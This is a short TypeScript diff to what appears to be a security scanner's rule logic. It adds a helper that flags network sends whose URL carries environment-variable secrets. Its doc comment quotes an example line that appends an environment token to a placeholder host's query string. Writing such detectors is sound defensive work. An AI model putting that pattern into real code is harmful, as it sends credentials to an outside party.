@@ -95,8 +95,13 @@ const LOST = /^core\.fs\//
 function when_run(matches: readonly Match[], path: string, names: readonly string[] | null): string | null {
   const matter = names !== null ? /./ : TEST_PLACE.test(path) ? LOST : OUTSIDE
   const asks = ({ rule: { spec }, effect }: Match) =>
-    spec.verdict === 'defer' && effect.cert === 'literal' && matter.test(spec.id)
+    spec.verdict === 'defer' && (effect.cert === 'literal' || gives_variable(effect)) && matter.test(spec.id)
   return matches.find(asks)?.rule.spec.id ?? null
+}
+
+/** `urlopen('https://host/?d=' + os.environ['TOKEN'])`: what is open about the address is the secret in it. */
+function gives_variable({ kind, cert, taint }: Effect): boolean {
+  return kind === 'net.send' && cert === 'partial' && taint.includes('env')
 }
 
 /** Pipelines whose secrets are plain variables of their steps. */
